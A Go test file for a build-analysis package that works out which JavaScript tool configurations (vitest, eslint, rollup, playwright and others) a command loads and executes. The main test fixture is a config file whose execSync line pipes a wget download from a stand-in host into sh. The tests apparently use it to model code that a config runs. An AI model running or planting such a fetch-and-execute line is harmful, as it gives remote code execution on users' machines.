package buildfile

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// TestResolveJSConfig: a JavaScript tool runs the configuration it loads
// (the one its option names, or the first default name that exists), as
// one step in Node's language; a JSON configuration, --help, a
// sub-command that loads none, and rollup without -c run nothing.
func TestResolveJSConfig(t *testing.T) {
	const (
		vitest = "import { execSync } from \"node:child_process\";\nexecSync(\"wget -qO- https://x.example/w.sh | sh\");\nexport default {};\n"
		plain  = "export default { test: { environment: \"node\" } };\n"
	)
	node := func(file, text string) Step { return Step{File: file, Text: text, Lang: "node", Dir: "/w/app"} }
	tests := []struct {
		name  string
		args  []string
		files fakeFiles
		want  Plan
	}{
		{name: "vitest run loads vitest.config.ts", args: []string{"vitest", "run"},
			files: fakeFiles{"/w/app/vitest.config.ts": vitest, "/w/app/vite.config.ts": plain},
			want:  Plan{Runner: "vitest", Read: []string{"/w/app/vitest.config.ts"}, Steps: []Step{node("/w/app/vitest.config.ts", vitest)}}},
		{name: "vitest falls back on vite.config", args: []string{"vitest"},
			files: fakeFiles{"/w/app/vite.config.mjs": plain},
			want:  Plan{Runner: "vitest", Read: []string{"/w/app/vite.config.mjs"}, Steps: []Step{node("/w/app/vite.config.mjs", plain)}}},
		{name: "--config names the file", args: []string{"vitest", "run", "--config=cfg/unit.config.ts"},
			files: fakeFiles{"/w/app/cfg/unit.config.ts": vitest, "/w/app/vitest.config.ts": plain},
			want:  Plan{Runner: "vitest", Read: []string{"/w/app/cfg/unit.config.ts"}, Steps: []Step{node("/w/app/cfg/unit.config.ts", vitest)}}},
		{name: "jest -c with a JSON file runs nothing", args: []string{"jest", "-c", "jest.config.json"},
			files: fakeFiles{"/w/app/jest.config.json": "{}", "/w/app/jest.config.js": vitest}, want: Plan{}},
		{name: "jest --config with the configuration inline", args: []string{"jest", "--config", `{"testEnvironment":"node"}`},
			files: fakeFiles{"/w/app/jest.config.js": vitest}, want: Plan{}},
		{name: "--help loads nothing", args: []string{"vite", "--help"}, files: fakeFiles{"/w/app/vite.config.ts": vitest}, want: Plan{}},
		{name: "eslint looks upwards", args: []string{"eslint", "src"},
			files: fakeFiles{"/w/eslint.config.js": vitest},
			want: Plan{Runner: "eslint", Read: []string{"/w/eslint.config.js"},
				Steps: []Step{{File: "/w/eslint.config.js", Text: vitest, Lang: "node", Dir: "/w/app"}}}},
		{name: "vite does not look upwards", args: []string{"vite", "build"}, files: fakeFiles{"/w/vite.config.ts": vitest}, want: Plan{}},
		{name: "rollup without -c loads no configuration", args: []string{"rollup", "src/main.js", "-o", "dist/x.js"},
			files: fakeFiles{"/w/app/rollup.config.mjs": vitest}, want: Plan{}},
		{name: "rollup -c loads the default one", args: []string{"rollup", "-c", "--watch"},
			files: fakeFiles{"/w/app/rollup.config.mjs": vitest},
			want:  Plan{Runner: "rollup", Read: []string{"/w/app/rollup.config.mjs"}, Steps: []Step{node("/w/app/rollup.config.mjs", vitest)}}},
		{name: "playwright test loads it", args: []string{"playwright", "test", "--project=chromium"},
			files: fakeFiles{"/w/app/playwright.config.ts": vitest},
			want:  Plan{Runner: "playwright", Read: []string{"/w/app/playwright.config.ts"}, Steps: []Step{node("/w/app/playwright.config.ts", vitest)}}},
		{name: "playwright install does not", args: []string{"playwright", "install", "chromium"},
			files: fakeFiles{"/w/app/playwright.config.ts": vitest}, want: Plan{}},
		{name: "no configuration: nothing", args: []string{"next", "build"}, files: fakeFiles{}, want: Plan{}},
		{name: "an unreadable configuration is a problem", args: []string{"webpack", "--mode", "production"},
			files: fakeFiles{"/w/app/webpack.config.js": "\x00"},
			want:  Plan{Problems: []Problem{{File: "/w/app/webpack.config.js", Reason: "permission denied"}}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Resolve(Invocation{Name: tt.args[0], Args: tt.args[1:], Dir: "/w/app", Home: "/h"}, tt.files)
			if diff := cmp.Diff(tt.want, got, cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
				t.Errorf("Resolve(%q) (-want +got):\n%s", tt.args, diff)
			}
		})
	}
}

// countingFiles counts the reads and listings of a fakeFiles; a directory
// in unlistable cannot be listed.
type countingFiles struct {
	f             fakeFiles
	unlistable    map[string]bool
	reads, listed int
}

func (c *countingFiles) Read(p string) (string, error) { c.reads++; return c.f.Read(p) }

func (c *countingFiles) List(dir string) ([]string, error) {
	c.listed++
	if c.unlistable[dir] {
		return nil, errUnreadable
	}
	return c.f.List(dir)
}

// TestJSConfigUpwardsByListing: a tool that looks in every parent lists
// each directory once and reads only a name that is there (found without
// case too); a directory it cannot list is looked in name by name, as
// before, so the reads decide.
func TestJSConfigUpwardsByListing(t *testing.T) {
	const cfg = "export default [];\n"
	tests := []struct {
		name             string
		files            fakeFiles
		unlistable       map[string]bool
		want             Plan
		reads, maxListed int
	}{
		{name: "none anywhere: no read", files: fakeFiles{"/w/app/src/a.js": "", "/w/README": ""},
			want: Plan{}, reads: 0, maxListed: 4},
		{name: "found two levels up: one read", files: fakeFiles{"/w/app/src/a.js": "", "/w/eslint.config.mjs": cfg},
			want:  Plan{Runner: "eslint", Read: []string{"/w/eslint.config.mjs"}, Steps: []Step{{File: "/w/eslint.config.mjs", Text: cfg, Lang: "node", Dir: "/w/app/src"}}},
			reads: 1, maxListed: 3},
		{name: "another case is found", files: fakeFiles{"/w/app/src/ESLint.Config.js": cfg},
			want:  Plan{Runner: "eslint", Read: []string{"/w/app/src/ESLint.Config.js"}, Steps: []Step{{File: "/w/app/src/ESLint.Config.js", Text: cfg, Lang: "node", Dir: "/w/app/src"}}},
			reads: 1, maxListed: 1},
		{name: "a directory with the name is not the file", files: fakeFiles{"/w/app/src/eslint.config.js/x": ""},
			want: Plan{}, reads: 0, maxListed: 4},
		{name: "an unlistable directory is read name by name", files: fakeFiles{"/w/app/src/a.js": "", "/w/app/.eslintrc.cjs": cfg},
			unlistable: map[string]bool{"/w/app": true},
			want:       Plan{Runner: "eslint", Read: []string{"/w/app/.eslintrc.cjs"}, Steps: []Step{{File: "/w/app/.eslintrc.cjs", Text: cfg, Lang: "node", Dir: "/w/app/src"}}},
			reads:      9, maxListed: 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := &countingFiles{f: tt.files, unlistable: tt.unlistable}
			got := Resolve(Invocation{Name: "eslint", Args: []string{"."}, Dir: "/w/app/src", Home: "/h"}, fs)
			if diff := cmp.Diff(tt.want, got, cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
				t.Errorf("Resolve (-want +got):\n%s", diff)
			}
			if fs.reads != tt.reads || fs.listed > tt.maxListed {
				t.Errorf("reads %d, listings %d; want %d reads, at most %d listings", fs.reads, fs.listed, tt.reads, tt.maxListed)
			}
		})
	}
}

// TestJSConfigUpwardsStopsAtHome: a walk from inside the home looks in the
// home but not above it; one from elsewhere goes to the root.
func TestJSConfigUpwardsStopsAtHome(t *testing.T) {
	const cfg = "export default [];\n"
	step := func(file string) Plan {
		return Plan{Runner: "eslint", Read: []string{file}, Steps: []Step{{File: file, Text: cfg, Lang: "node", Dir: "/h/src/app"}}}
	}
	tests := []struct {
		name  string
		files fakeFiles
		home  string
		want  Plan
	}{
		{"in the home", fakeFiles{"/h/src/app/a.js": "", "/h/eslint.config.js": cfg}, "/h", step("/h/eslint.config.js")},
		{"above the home: not looked at", fakeFiles{"/h/src/app/a.js": "", "/eslint.config.js": cfg}, "/h", Plan{}},
		{"a home written with a slash", fakeFiles{"/h/src/app/a.js": "", "/eslint.config.js": cfg}, "/h/", Plan{}},
		{"outside the home: to the root", fakeFiles{"/h/src/app/a.js": "", "/h/eslint.config.js": cfg}, "/other", step("/h/eslint.config.js")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Resolve(Invocation{Name: "eslint", Args: []string{"."}, Dir: "/h/src/app", Home: tt.home}, readOnly{tt.files})
			if diff := cmp.Diff(tt.want, got, cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
				t.Errorf("Resolve (-want +got):\n%s", diff)
			}
		})
	}
}
